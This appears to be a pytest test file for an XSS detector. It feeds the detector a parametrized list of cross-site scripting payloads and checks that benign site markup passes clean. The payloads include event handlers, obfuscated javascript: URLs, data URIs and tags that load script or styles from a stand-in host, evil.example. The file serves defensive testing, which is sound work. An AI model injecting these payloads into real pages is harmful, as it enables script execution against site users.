"""html_check finds what would run script: the reflected and stored XSS tests rely on it."""

import pytest

from tests.security.html_check import dangerous_url, script_findings
from tests.security.test_stored_xss import VECTORS


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<script src="//evil.example/x.js"></script>',
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        '<a href="java&#09;script:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href=" \x01javascript:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<object data=x></object>",
        "<embed src=x>",
        '<base href="//evil.example/">',
        '<meta http-equiv="refresh" content="0;url=//evil.example">',
        "<svg><animate onbegin=alert(1)>",
        "<math><maction xlink:href=javascript:alert(1)>x</maction></math>",
        '<div style="background:url(javascript:alert(1))">x</div>',
        "<style>@import '//evil.example/x.css';</style>",
        '<form action="javascript:alert(1)"><button>go</button></form>',
        '<button formaction="javascript:alert(1)">go</button>',
        '<link rel="stylesheet" href="//evil.example/x.css">',
        '<div hx-on:click="alert(1)">x</div>',
    ],
)
def test_each_kind_of_script_is_found(html):
    assert script_findings(f"<main><p>before</p>{html}<p>after</p></main>") != []


@pytest.mark.parametrize(
    "html",
    [
        '<p>An <a href="https://arxiv.org/abs/1707.06347" rel="noopener">arXiv paper</a></p>',
        '<img src="data:image/png;base64,AAAA" alt="">',
        '<img src="https://example.org/figure.png" alt="a figure">',
        '<script src="/static/js/site.js" defer></script>',
        '<link rel="stylesheet" href="/static/css/site.css">',
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; as text, and javascript:alert(1) as text</p>",
        '<form method="post" action="/library/add/"><input name="q" value="&quot;&gt;&lt;img"></form>',
    ],
)
def test_the_sites_own_markup_and_escaped_text_are_clean(html):
    assert script_findings(html) == []


def test_most_raw_vectors_are_found_unsanitised():
    """Put in a page as they are, the vectors are caught; the rest are Markdown or encodings that
    are harmless as HTML (they matter once rendered, which the stored test does)."""
    found = [vector for vector in VECTORS if script_findings(f"<main>{vector}</main>")]

    assert len(found) >= 140, len(found)


def test_dangerous_url_ignores_what_browsers_ignore():
    assert dangerous_url("\tjava\nscript:alert(1)")
    assert dangerous_url("VBScript:msgbox(1)")
    assert not dangerous_url("https://example.org/javascript:alert(1)")
    assert not dangerous_url("data:image/png;base64,AAAA", tag="img")
    assert dangerous_url("data:image/png;base64,AAAA", tag="a")
